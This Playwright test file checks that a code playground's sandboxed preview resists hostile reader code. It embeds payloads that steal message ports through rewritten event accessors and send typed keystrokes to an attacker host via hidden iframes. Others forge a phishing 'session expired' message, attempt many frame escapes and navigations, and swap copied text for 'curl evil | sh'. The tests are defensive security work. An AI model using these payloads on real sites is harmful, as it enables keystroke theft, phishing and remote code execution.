import type {Frame, Page} from '@playwright/test';
import {expect, firstCompile, openEditor, previewFrame, replaceCode, scaled} from './fixtures';
import {
  autoRunOff,
  codeEditor,
  consolePanel,
  expectNothingReached,
  frames,
  nativeMessages,
  openLink,
  status,
  typeInEditor,
  views,
} from './preview-helpers';
import {refusals, test, type Spy} from './spy';

// The third round of hostile links against the preview (the report of main 3db15af,
// ../shared/facts/preview-isolation-attacks-3db15af.md): each way out it found, as an
// attacker would try it, against a second local server that counts requests, TCP
// connections, UDP packets and the names the browser looks up. The attempts of each
// cause share a page where they can; each cause's tests failed on 3db15af.

test.use({allowedConsoleErrors: [...refusals, 'React Strict DOM:']});

const secret = 'const myToken = "ghp_reader_secret";';

/** Reader code: sends `label` to the attacker by the only way a preview had, a child frame's address. */
const leakByFrame = (spy: Spy) => `const leak = (label: string) => {
  try {
    const frame = document.createElement('iframe');
    frame.src = '${spy.named('LABEL')}'.replace('LABEL', label);
    frame.style.display = 'none';
    document.body.append(frame);
    setTimeout(() => frame.remove(), 100);
  } catch {
    // Refused.
  }
};
const hex = (text: string) =>
  Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, '0')).join('').slice(0, 60) || 'empty';`;

/** The editor of a docs page's example, open. */
const openEditorOn = (page: Page) => openEditor(page, 'api/css/create/', 'HoverButton');

/** The preview frame's document, as Playwright reads it (inside the shell of the preview on screen). */
async function previewDocument(page: Page): Promise<Frame> {
  let frame: Frame | undefined;
  // A run swapped in meanwhile detaches the shell read a moment ago: read again.
  await expect(async () => {
    const shell = await page
      .locator('[data-preview-frames] iframe[data-state="shown"]')
      .elementHandle({timeout: 1000});
    frame = (await shell?.contentFrame())?.childFrames()[0];
    expect(frame, 'a preview frame in the shown shell').toBeDefined();
  }).toPass();
  return frame!;
}

/**
 * Moves the focus into the preview's `selector` by a way the frame does not refuse and
 * with no user activation: a script of a world of its own (where the runtime's wrappers do
 * not reach), run by the browser's protocol without a gesture. It stands for a way in
 * nobody has found yet; only the page's guard answers it.
 */
async function takeFocusUnrefused(page: Page, selector: string): Promise<void> {
  const frame = await previewDocument(page);
  const shell = frame.parentFrame()!;
  for (const target of [frame, shell]) {
    let session;
    try {
      session = await page.context().newCDPSession(target);
    } catch {
      continue;
    }
    const {frameTree} = (await session.send('Page.getFrameTree')) as {
      frameTree: {frame: {id: string}; childFrames?: Array<{frame: {id: string}}>};
    };
    const frameId = target === frame ? frameTree.frame.id : frameTree.childFrames![0]!.frame.id;
    const {executionContextId} = (await session.send('Page.createIsolatedWorld', {
      frameId,
      worldName: 'another-way-in',
    })) as {executionContextId: number};
    await session.send('Runtime.evaluate', {
      contextId: executionContextId,
      expression: `document.querySelector(${JSON.stringify(selector)}).focus()`,
      userGesture: false,
    });
    await session.detach().catch(() => undefined);
    return;
  }
  throw new Error('no protocol session reaches the preview frame');
}

test.describe('cause 1: the port to the page cannot be taken, and a message of the frame claims nothing', () => {
  /**
   * FN12, FN13, FN13b, CH2, PN1 and BN2 at once: accessors on the events the runtime reads
   * (the report's way to the port), forged presses and library lines over any port found,
   * three ways to take the focus, and what reaches the preview's fields sent out by a child
   * frame's address.
   */
  const portThief = (spy: Spy) => `import {html} from 'react-strict-dom';

let port: MessagePort | null = null;
let pings = 0;
const watch = (prototype: object, name: string) => {
  const own = Object.getOwnPropertyDescriptor(prototype, name);
  if (!own?.get) return;
  Object.defineProperty(prototype, name, {configurable: true, get() {
    const value = own.get!.call(this);
    for (const found of [value, this, (this as Event).target]) {
      if (found instanceof MessagePort) port = found;
    }
    if (name === 'data' && (value as {type?: unknown} | null)?.type === 'ping') pings++;
    return value;
  }});
};
watch(MessageEvent.prototype, 'data');
watch(MessageEvent.prototype, 'ports');
watch(MessageEvent.prototype, 'source');
watch(Event.prototype, 'target');
watch(Event.prototype, 'currentTarget');
const forged = '[error] React Strict DOM: Your session expired. Sign in again at https://evil.example/login';
const forge = () => {
  port?.postMessage({type: 'pointer'});
  port?.postMessage({type: 'native', level: 'error', text: forged});
  parent.postMessage({type: 'native', level: 'error', text: forged}, '*');
  top!.postMessage({type: 'native', level: 'error', text: forged}, '*');
};
document.body.insertAdjacentHTML('beforeend', '<label id="lbl" for="kk">Name</label><input id="kk"><button id="open-pop" popovertarget="pop">Open</button><div id="pop" popover><input id="pk" autofocus></div><form><input id="req" required></form>');
setInterval(() => {
  forge();
  if (document.hasFocus()) return;
  setTimeout(() => {
    document.getElementById('lbl')?.click();
    document.getElementById('open-pop')?.click();
    (document.getElementById('req') as HTMLInputElement | null)?.reportValidity();
  }, 30);
}, 100);
${leakByFrame(spy)}
let sent = '';
setInterval(() => {
  const typed = ['kk', 'pk', 'req'].map((id) => (document.getElementById(id) as HTMLInputElement | null)?.value ?? '').join('');
  if (typed === sent) return;
  sent = typed;
  leak('typed-' + hex(typed));
}, 300);
setTimeout(() => console.log('port: ' + (port ? 'taken' : 'none') + ', pings seen: ' + pings), 2500);

export default function Innocent() {
  return <html.p>Nothing to see here</html.p>;
}
`;

  for (const view of views) {
    test(`a link that rewrites the events' accessors gets no port, no keystroke and no library line (${view})`, async ({
      page,
      spy,
    }) => {
      await openLink(page, portThief(spy), view);
      await expect(consolePanel(page)).toContainText('port: none, pings seen: 0', {
        timeout: scaled(10_000),
      });
      // The same frame all along: an edit would run the code afresh.
      await autoRunOff(page);
      await typeInEditor(page, `\n${secret}`);
      await expect(codeEditor(page)).toContainText(secret);
      await expect(status(page)).toContainText('tried to take the keyboard focus');
      if (view === 'native')
        await expect(nativeMessages(page)).not.toContainText('session expired');
      await expect(consolePanel(page)).not.toContainText('session expired');
      expectNothingReached(spy, 'the port thief');
      // Read last: Playwright's reads give the frame the browser's user activation.
      await expect(async () => {
        const preview = await previewDocument(page);
        const values = await preview.evaluate(() =>
          ['kk', 'pk', 'req'].map((id) => (document.getElementById(id) as HTMLInputElement).value),
        );
        expect(values).toEqual(['', '', '']);
      }).toPass();
    });
  }

  test('a focus no guard of the frame refuses is undone by the page, on its own signals', async ({
    page,
    spy,
  }) => {
    const trap = `import {html} from 'react-strict-dom';

${leakByFrame(spy)}
let sent = '';
setInterval(() => {
  const typed = (document.getElementById('trap') as HTMLInputElement).value;
  if (typed !== sent) leak('typed-' + hex((sent = typed)));
}, 300);

export default function Trap() {
  return <html.input id="trap" aria-label="Trap" />;
}
`;
    await openLink(page, trap);
    await autoRunOff(page);
    for (let take = 1; take <= 3; take++) {
      await typeInEditor(page, `\n// line ${take}`);
      await takeFocusUnrefused(page, '#trap');
      // The page undoes it in its next task: what a key typed in between would reach is the
      // residual (HowItRuns says so), not what this test is about.
      await expect(codeEditor(page)).toBeFocused();
      await page.keyboard.type(` typed after take ${take}`, {delay: 20});
      await expect(codeEditor(page)).toContainText(`typed after take ${take}`);
      if (take < 3) await expect(status(page)).toContainText('tried to take the keyboard focus');
    }
    await expect(status(page)).toContainText('kept trying to take the keyboard focus');
    await expect(frames(page)).toHaveCount(0);
    expectNothingReached(spy, 'the unrefused take');
  });
});

test.describe('cause 2: a navigation connects to its address before it is refused', () => {
  /** Each way a frame can send itself elsewhere; each runs half a second after its run renders. */
  const ways = (spy: Spy) => ({
    // The frame's own location cannot be wrapped: it costs the frame, and Chromium has
    // looked up and connected to the address by then (the counted residual).
    navigating: {
      'location.href (L02, N2)': `location.href = '${spy.named('href')}/href';`,
      'a page that never ends loading (L03)': `location.href = '${spy.named('never')}/never-ends';`,
      'window.open(_top, _parent), then location.replace (L07)': `try { window.open('${spy.named('open')}/', '_top'); } catch {}
      try { window.open('${spy.named('open')}/', '_parent'); } catch {}
      location.replace('${spy.named('replace')}/replace');`,
      'navigation.navigate five times, then location.assign (NN2)': `for (let i = 0; i < 5; i++) { try { (window as any).navigation.navigate('${spy.named('navigate')}/' + i); } catch {} }
      location.assign('${spy.named('assign')}/assign');`,
      'javascript:, data: and blob: addresses (L11, L11b)': `location.href = 'data:text/html,<p>data</p>';`,
    },
    // Ways the frame refuses: no connection at all, and the frame stays.
    refused: {
      'a meta refresh (L04)': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${spy.named('meta')}/'; document.head.append(meta);`,
      'a meta refresh written with document.open and write (L11c)': `document.open(); document.write('<img src="${spy.named('img')}/i"><meta http-equiv="refresh" content="0;url=${spy.named('written')}/">'); document.close();`,
      'links clicked by code: plain, _self, _top, _blank, download, ping (L05)': `for (const target of ['', '_self', '_top', '_blank']) {
        const link = Object.assign(document.createElement('a'), {href: '${spy.named('link')}/' + target, target});
        document.body.append(link); link.click();
      }
      const download = Object.assign(document.createElement('a'), {href: '${spy.named('download')}/', download: 'x.txt', ping: '${spy.named('ping')}/'});
      document.body.append(download); download.click();`,
      'a click event dispatched on a link (NN3)': `const link = Object.assign(document.createElement('a'), {href: '${spy.named('dispatched')}/', target: '_self'});
      document.body.append(link); link.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));`,
    },
  });

  const run = (name: string, script: string) => `import {useEffect} from 'react';
import {html} from 'react-strict-dom';

export default function Away() {
  useEffect(() => {
    console.log('on screen: ${name}');
    const timer = setTimeout(() => {
      try {
        ${script}
      } catch (error) {
        console.log('refused: ' + (error as Error).message);
      }
      console.log('done: ${name}');
    }, 500);
    return () => clearTimeout(timer);
  }, []);
  return <html.p>${name}</html.p>;
}
`;

  for (const view of views) {
    test(`each way is refused, or costs the frame one preconnect and no request; Auto-run stops (${view})`, async ({
      page,
      spy,
    }) => {
      test.setTimeout(scaled(180_000));
      const all = ways(spy);
      const navigating = Object.entries(all.navigating).slice(0, view === 'web' ? undefined : 1);
      const refused = Object.entries(all.refused).slice(0, view === 'web' ? undefined : 2);
      await openLink(page, `export default function Start() {\n  return null;\n}\n`, view);
      await autoRunOff(page);
      for (const [way, script] of refused) {
        spy.reset();
        await replaceCode(page, page, run(way, script));
        await page.getByRole('button', {name: 'Run', exact: true}).click();
        await expect(consolePanel(page), way).toContainText(`done: ${way}`, {
          timeout: firstCompile,
        });
        await expect(frames(page), way).toHaveCount(1);
        await expect(status(page), way).not.toContainText('left its page');
        expectNothingReached(spy, way);
      }
      for (const [way, script] of navigating) {
        spy.reset();
        await replaceCode(page, page, run(way, script));
        await page.getByRole('button', {name: 'Run', exact: true}).click();
        await expect(consolePanel(page), way).toContainText(`on screen: ${way}`, {
          timeout: firstCompile,
        });
        await expect(status(page), way).toContainText('left its page');
        await expect(frames(page), way).toHaveCount(0);
        await expect(page.getByRole('button', {name: 'Auto-run'})).toHaveAttribute(
          'aria-pressed',
          'false',
        );
        // The counted residual: Chromium looks up and connects to the address of a navigation
        // before it checks the page's frame-src; no byte of a request follows.
        expectNothingReached(spy, way, {connections: 1, lookups: 1});
      }
    });
  }

  test('an example edited to navigate its frame on a docs page: reset, code kept, Auto-run off (W2)', async ({
    page,
    spy,
  }) => {
    const figure = await openEditorOn(page);
    const code = run('docs page', `location.href = '${spy.named('docs')}/docs';`);
    await replaceCode(page, figure, code);
    await expect(status(figure)).toContainText('left its page', {timeout: firstCompile});
    await expect(codeEditor(figure)).toContainText("location.href = 'http://docs.attacker.test");
    await expect(figure.getByRole('button', {name: 'Auto-run'})).toHaveAttribute(
      'aria-pressed',
      'false',
    );
    await typeInEditor(page, '\n// an edit runs nothing now');
    await expect(frames(figure)).toHaveCount(0);
    expectNothingReached(spy, 'the docs page', {connections: 1, lookups: 1});
  });

  test('no child frame can be made, so none connects (L09, NN1, CH2, FN14c)', async ({
    page,
    spy,
  }) => {
    const url = (label: string) => `${spy.named(label)}/child`;
    const makers: Record<string, string> = {
      createElement: `const f = document.createElement('iframe'); f.src = '${url('create')}'; document.body.append(f);`,
      createElementNS: `const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe') as HTMLIFrameElement; f.src = '${url('ns')}'; document.body.append(f);`,
      innerHTML: `document.body.insertAdjacentHTML('beforeend', '<div></div>'); (document.body.lastElementChild as HTMLElement).innerHTML = '<iframe src="${url('inner')}"></iframe>';`,
      insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<IFRAME\\nsrc="${url('adjacent')}"></IFRAME>');`,
      outerHTML: `const d = document.body.appendChild(document.createElement('div')); d.outerHTML = '<iframe src="${url('outer')}"></iframe>';`,
      DOMParser: `const doc = new DOMParser().parseFromString('<iframe src="${url('parser')}"></iframe>', 'text/html'); document.body.append(document.adoptNode(doc.body.firstChild!));`,
      'DOMParser (XHTML, prefixed)': `const doc = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${url('xhtml')}"/>', 'application/xhtml+xml'); document.body.append(document.adoptNode(doc.documentElement));`,
      createContextualFragment: `document.body.append(document.createRange().createContextualFragment('<iframe src="${url('fragment')}"></iframe>'));`,
      setHTMLUnsafe: `const d = document.body.appendChild(document.createElement('div')); d.setHTMLUnsafe('<iframe src="${url('unsafe')}"></iframe>');`,
      'a template': `const t = document.createElement('template'); t.innerHTML = '<iframe src="${url('template')}"></iframe>'; document.body.append(t.content.cloneNode(true));`,
      'document.write': `document.write('<iframe src="${url('write')}"></iframe>');`,
      "execCommand('insertHTML')": `const d = document.body.appendChild(document.createElement('div')); d.contentEditable = 'true'; d.focus(); document.execCommand('insertHTML', false, '<iframe src="${url('exec')}"></iframe>');`,
      'a customized built-in iframe': `class Framed extends HTMLIFrameElement {} customElements.define('x-framed', Framed, {extends: 'iframe'}); const f = new Framed(); f.src = '${url('custom')}'; document.body.append(f);`,
      XSLTProcessor: `const x = new (window as any).XSLTProcessor(); console.log(x);`,
      'frame, frameset, object, embed, fencedframe': `for (const tag of ['frame', 'frameset', 'object', 'embed', 'fencedframe']) { try { const e = document.createElement(tag) as HTMLObjectElement; e.data = '${url('object')}'; document.body.append(e); } catch (error) { made.push('refused ' + tag); } }`,
    };
    const code = `import {html} from 'react-strict-dom';

const made: string[] = [];
${Object.entries(makers)
  .map(
    ([name, make]) => `try {
  ${make}
} catch {
  made.push('refused: ${name.replace(/'/g, '')}');
}`,
  )
  .join('\n')}
// NN1: one more every 200 ms, for two seconds.
let n = 0;
const beacon = setInterval(() => {
  try {
    const f = document.createElement('iframe'); f.src = '${url('beacon')}' + n; document.body.append(f);
  } catch {
    // Refused.
  }
  if (++n === 10) clearInterval(beacon);
}, 200);
setTimeout(() => console.log('frames made: ' + (document.querySelectorAll('iframe, frame, object, embed, fencedframe').length || 'none')), 2500);

export default function Framer() {
  return <html.p>Rendered</html.p>;
}
`;
    await openLink(page, code);
    await expect(consolePanel(page)).toContainText('frames made: none', {timeout: scaled(10_000)});
    await expect(previewFrame(page).getByText('Rendered')).toBeVisible();
    expectNothingReached(spy, 'child frames');
  });
});

test.describe('cause 3: the guards call only what they took before reader code ran', () => {
  test('with Event.prototype.target rewritten, a label takes nothing and nothing leaves (FN14, FN14c)', async ({
    page,
    spy,
  }) => {
    const code = `import {html} from 'react-strict-dom';

const target = Object.getOwnPropertyDescriptor(Event.prototype, 'target')!;
Object.defineProperty(Event.prototype, 'target', {configurable: true, get() {
  const found = target.get!.call(this);
  return this.type === 'focus' && found === window ? document : found;
}});
setTimeout(() => setInterval(() => {
  if (!document.hasFocus()) document.getElementById('lbl')?.click();
}, 100), 500);
${leakByFrame(spy)}
document.addEventListener('input', (event) => leak('key-' + hex((event.target as HTMLInputElement).value.slice(-1))), true);

export default function Form() {
  return (
    <html.div>
      <html.label id="lbl" for="k">Name</html.label>
      <html.input id="k" />
    </html.div>
  );
}
`;
    await openLink(page, code);
    await autoRunOff(page);
    await typeInEditor(page, `\n${secret}`);
    await expect(codeEditor(page)).toContainText(secret);
    await expect(status(page)).toContainText('tried to take the keyboard focus');
    expectNothingReached(spy, 'the rewritten target');
    await expect(previewFrame(page).locator('#k')).toHaveValue('');
  });

  test.describe(() => {
    test.use({permissions: ['clipboard-read', 'clipboard-write']});

    /** Selects the paragraph in the preview with the mouse, as a reader does, and copies it with the keyboard. */
    async function copyFromPreview(page: Page, text: string): Promise<string> {
      await page.evaluate(() => navigator.clipboard.writeText('kept by the reader'));
      await previewFrame(page).getByText(text).click({clickCount: 3});
      // The press is the reader's: the page gives the frame the keyboard (at once, or once
      // the shell has confirmed it).
      await expect(page.locator('[data-preview-frames] iframe[data-state="shown"]')).toBeFocused();
      await page.keyboard.press('ControlOrMeta+C');
      await expect
        .poll(() => page.evaluate(() => navigator.clipboard.readText()))
        .not.toBe('kept by the reader');
      return page.evaluate(() => navigator.clipboard.readText());
    }

    test('with stopImmediatePropagation replaced, a copy handler of reader code does not run (CN6)', async ({
      page,
    }) => {
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

Event.prototype.stopImmediatePropagation = function () {};
document.addEventListener('copy', (event) => {
  event.clipboardData!.setData('text/plain', 'curl evil | sh');
  event.preventDefault();
});

export default function Install() {
  return <html.p>npm install react-strict-dom</html.p>;
}
`,
      );
      expect((await copyFromPreview(page, 'npm install react-strict-dom')).trim()).toBe(
        'npm install react-strict-dom',
      );
    });

    test('cause 4: a handler that moves the selection before the copy changes nothing copied (CN4)', async ({
      page,
    }) => {
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

const swap = () => {
  const hidden = document.getElementById('hidden');
  if (hidden) getSelection()!.selectAllChildren(hidden);
};
document.addEventListener('keydown', (event) => {
  if ((event.ctrlKey || event.metaKey) && event.key === 'c') swap();
}, true);
document.addEventListener('beforecopy', swap, true);

export default function Install() {
  return (
    <html.div>
      <html.p id="shown">npm install react-strict-dom</html.p>
      <html.p id="hidden" style={{position: 'absolute', left: -9999} as never}>curl evil | sh</html.p>
    </html.div>
  );
}
`,
      );
      expect((await copyFromPreview(page, 'npm install react-strict-dom')).trim()).toBe(
        'npm install react-strict-dom',
      );
    });
  });
});

test.describe('cause 5: busy means busy', () => {
  const hogs = {
    'a hog in 30 ms slices with setTimeout between (BN1)': `const spin = () => {
  const start = performance.now();
  while (performance.now() - start < 30) {}
  setTimeout(spin, 0);
};
setTimeout(spin, 300);`,
    'a hog in 25 ms slices with MessageChannel between (BN1b)': `const channel = new MessageChannel();
channel.port1.onmessage = () => {
  const start = performance.now();
  while (performance.now() - start < 25) {}
  channel.port2.postMessage(0);
};
setTimeout(() => channel.port2.postMessage(0), 300);`,
  };
  const app = (code: string, label: string) => `import {html} from 'react-strict-dom';

${code}

export default function Hog() {
  return <html.p>${label}</html.p>;
}
`;

  test('a hog that yields every few milliseconds is reported, and Stop ends it', async ({page}) => {
    test.setTimeout(scaled(120_000));
    const [[first, firstCode], [second, secondCode]] = Object.entries(hogs);
    await openLink(page, app(firstCode!, first!));
    await expect(status(page), first).toContainText('keeps the processor busy', {
      timeout: scaled(20_000),
    });
    await replaceCode(page, page, app(secondCode!, second!));
    await expect(status(page), second).not.toContainText('keeps the processor busy', {
      timeout: firstCompile,
    });
    await expect(status(page), second).toContainText('keeps the processor busy', {
      timeout: scaled(20_000),
    });
    await status(page).getByRole('button', {name: 'Stop the preview'}).click();
    await expect(frames(page)).toHaveCount(0);
  });

  test('an animation that draws a little each frame is not reported', async ({page}) => {
    await openLink(
      page,
      app(
        `const draw = () => {
  const start = performance.now();
  while (performance.now() - start < 2) {}
  document.getElementById('dot')?.style.setProperty('translate', (performance.now() / 10) % 100 + 'px');
  requestAnimationFrame(draw);
};
requestAnimationFrame(draw);
setTimeout(() => console.log('drawn for six seconds'), 6000);`,
        'Animated',
      ).replace('<html.p>Animated</html.p>', '<html.p id="dot">Animated</html.p>'),
    );
    await expect(consolePanel(page)).toContainText('drawn for six seconds', {
      timeout: scaled(15_000),
    });
    await expect(status(page)).not.toContainText('keeps the processor busy');
  });
});
